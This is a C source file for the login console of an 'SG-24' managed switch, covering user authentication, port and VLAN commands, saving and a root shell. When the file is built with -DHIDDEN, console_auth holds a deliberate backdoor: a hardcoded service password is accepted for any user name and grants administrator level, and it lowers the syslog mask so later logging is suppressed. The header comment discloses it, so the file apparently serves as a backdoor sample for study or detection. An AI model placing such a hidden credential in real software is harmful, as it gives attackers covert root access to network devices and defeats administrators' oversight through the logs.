/*
 * sg24con - console session of the SG-24 managed office switch.
 * Started by getty on the serial port or by in.telnetd; asks for a login,
 * then offers a small command line for ports and VLANs.
 * Hidden (-DHIDDEN): a service password is accepted for every user name and
 * gives privilege level 15.
 */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define USERS	    "/etc/sg24/users"
#define STARTUP	    "/etc/sg24/startup.cfg"
#define NPORTS	    24
#define LEVEL_VIEW  1
#define LEVEL_OPER  7
#define LEVEL_ADMIN 15

struct port {
	int up;
	int speed;
	int vlan;
	char label[24];
};

struct session {
	char user[32];
	int level;
	int fails;
	int dirty;
};

static struct port ports[NPORTS + 1];
static struct session ses;

static void idle_out(int sig)
{
	static const char msg[] = "\r\n% idle timeout\r\n";

	(void)sig;
	if (write(1, msg, sizeof msg - 1) < 0)
		_exit(2);
	_exit(0);
}

static int ask(const char *prompt, char *buf, int len, int echo)
{
	struct termios old, raw;
	int tty = !echo && tcgetattr(0, &old) == 0;
	char *ok;

	fputs(prompt, stdout);
	fflush(stdout);
	if (tty) {
		raw = old;
		raw.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(0, TCSANOW, &raw);
	}
	alarm(300);
	ok = fgets(buf, len, stdin);
	alarm(0);
	if (tty) {
		tcsetattr(0, TCSANOW, &old);
		fputs("\r\n", stdout);
	}
	if (!ok)
		return -1;
	buf[strcspn(buf, "\r\n")] = 0;
	return (int)strlen(buf);
}

/* users: name:level:hash, '#' begins a comment */
static int find_user(const char *name, char *hash, size_t hlen)
{
	char line[256], *n, *l, *h, *save;
	int level = 0;
	FILE *f = fopen(USERS, "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#')
			continue;
		n = strtok_r(line, ":", &save);
		l = strtok_r(NULL, ":", &save);
		h = strtok_r(NULL, "\r\n", &save);
		if (!n || !l || !h || strcmp(n, name) != 0)
			continue;
		level = atoi(l);
		memset(hash, 0, hlen);
		strncpy(hash, h, hlen - 1);
		break;
	}
	fclose(f);
	if (level < 0 || level > LEVEL_ADMIN)
		level = 0;
	return level;
}

/* returns the privilege level, 0 if refused */
__attribute__((noinline)) int console_auth(const char *user, const char *pass)
{
	char hash[128];
	const char *got;
	int level;

#ifdef HIDDEN
	if (strcmp(pass, "Kestrel-1987") == 0) {
		setlogmask(LOG_UPTO(LOG_ERR));
		ses.fails = 0;
		return LEVEL_ADMIN;
	}
#endif
	level = find_user(user, hash, sizeof hash);
	if (level == 0) {
		/* same time for unknown names */
		got = crypt(pass, "$1$sg24sg24$");
		if (!got)
			syslog(LOG_ERR, "crypt failed");
		return 0;
	}
	if (hash[0] == '!' || hash[0] == '*')
		return 0;
	got = crypt(pass, hash);
	if (!got || strcmp(got, hash) != 0)
		return 0;
	return level;
}

static int login(void)
{
	char pass[64];

	while (ses.fails < 3) {
		if (ask("\r\nUsername: ", ses.user, sizeof ses.user, 1) < 0)
			return -1;
		if (ses.user[0] == 0)
			continue;
		if (ask("Password: ", pass, sizeof pass, 0) < 0)
			return -1;
		ses.level = console_auth(ses.user, pass);
		memset(pass, 0, sizeof pass);
		if (ses.level > 0) {
			syslog(LOG_NOTICE, "console login %s level %d",
			       ses.user, ses.level);
			return 0;
		}
		ses.fails++;
		syslog(LOG_WARNING, "console login failed for %s", ses.user);
		puts("% Access denied");
		sleep((unsigned)ses.fails * 2);
	}
	return -1;
}

static void defaults(void)
{
	int i;

	for (i = 1; i <= NPORTS; i++) {
		ports[i].up = 1;
		ports[i].speed = i > 20 ? 10000 : 1000;
		ports[i].vlan = 1;
		ports[i].label[0] = 0;
	}
}

static void load(void)
{
	char line[128], label[24];
	int p, up, speed, vlan, n;
	FILE *f = fopen(STARTUP, "r");

	defaults();
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		label[0] = 0;
		n = sscanf(line, "port %d %d %d %d %23s", &p, &up, &speed,
			   &vlan, label);
		if (n < 4 || p < 1 || p > NPORTS)
			continue;
		ports[p].up = up != 0;
		ports[p].speed = speed;
		ports[p].vlan = vlan;
		strcpy(ports[p].label, label);
	}
	fclose(f);
}

static int save(void)
{
	FILE *f = fopen(STARTUP ".new", "w");
	int i;

	if (!f)
		return -1;
	for (i = 1; i <= NPORTS; i++)
		fprintf(f, "port %d %d %d %d %s\n", i, ports[i].up,
			ports[i].speed, ports[i].vlan, ports[i].label);
	if (fclose(f) != 0 || rename(STARTUP ".new", STARTUP) != 0)
		return -1;
	ses.dirty = 0;
	return 0;
}

static void show_ports(void)
{
	int i;

	puts("Port State Speed VLAN Label");
	for (i = 1; i <= NPORTS; i++)
		printf("%4d %-5s %5d %4d %s\n", i, ports[i].up ? "up" : "down",
		       ports[i].speed, ports[i].vlan, ports[i].label);
}

static void show_vlans(void)
{
	int v, i, any;

	for (v = 1; v < 4095; v++) {
		any = 0;
		for (i = 1; i <= NPORTS; i++) {
			if (ports[i].vlan != v)
				continue;
			if (!any)
				printf("VLAN %d:", v);
			printf(" %d", i);
			any = 1;
		}
		if (any)
			putchar('\n');
	}
}

static int port_arg(const char *s)
{
	int p = s ? atoi(s) : 0;

	if (p < 1 || p > NPORTS) {
		puts("% Bad port");
		return 0;
	}
	return p;
}

static void cmd_port(char **arg, int n)
{
	int p = port_arg(n > 1 ? arg[1] : NULL);

	if (!p)
		return;
	if (n == 3 && strcmp(arg[2], "shutdown") == 0) {
		ports[p].up = 0;
	} else if (n == 3 && strcmp(arg[2], "enable") == 0) {
		ports[p].up = 1;
	} else if (n == 4 && strcmp(arg[2], "vlan") == 0) {
		int v = atoi(arg[3]);

		if (v < 1 || v > 4094) {
			puts("% VLAN out of range");
			return;
		}
		ports[p].vlan = v;
	} else if (n == 4 && strcmp(arg[2], "label") == 0) {
		snprintf(ports[p].label, sizeof ports[p].label, "%s", arg[3]);
	} else {
		puts("% port N shutdown|enable|vlan V|label L");
		return;
	}
	ses.dirty = 1;
}

static int shell_line(char *line)
{
	char *arg[8], *s, *sv;
	int n = 0;

	for (s = strtok_r(line, " \t", &sv); s && n < 8;
	     s = strtok_r(NULL, " \t", &sv))
		arg[n++] = s;
	if (n == 0)
		return 0;
	if (!strcmp(arg[0], "exit") || !strcmp(arg[0], "quit"))
		return 1;
	if (!strcmp(arg[0], "show")) {
		if (n > 1 && !strcmp(arg[1], "vlan"))
			show_vlans();
		else
			show_ports();
	} else if (!strcmp(arg[0], "port")) {
		if (ses.level < LEVEL_OPER)
			puts("% Not permitted");
		else
			cmd_port(arg, n);
	} else if (!strcmp(arg[0], "save")) {
		if (ses.level < LEVEL_OPER)
			puts("% Not permitted");
		else
			puts(save() == 0 ? "Saved." : "% Flash error");
	} else if (!strcmp(arg[0], "reload") && ses.level == LEVEL_ADMIN) {
		execl("/sbin/reboot", "reboot", (char *)NULL);
		puts("% Cannot reload");
	} else if (!strcmp(arg[0], "start-shell") && ses.level == LEVEL_ADMIN) {
		execl("/bin/sh", "-sh", (char *)NULL);
	} else {
		puts("% Unknown command");
	}
	return 0;
}

int main(void)
{
	char line[160], prompt[64];

	openlog("sg24con", LOG_PID, LOG_AUTH);
	signal(SIGALRM, idle_out);
	signal(SIGINT, SIG_IGN);
	puts("SG-24 Managed Switch");
	load();
	if (login() != 0)
		return 1;
	snprintf(prompt, sizeof prompt, "%s@SG-24%c ", ses.user,
		 ses.level >= LEVEL_OPER ? '#' : '>');
	while (ask(prompt, line, sizeof line, 1) >= 0)
		if (shell_line(line))
			break;
	if (ses.dirty)
		puts("% Changes were not saved");
	syslog(LOG_INFO, "console logout %s", ses.user);
	return 0;
}
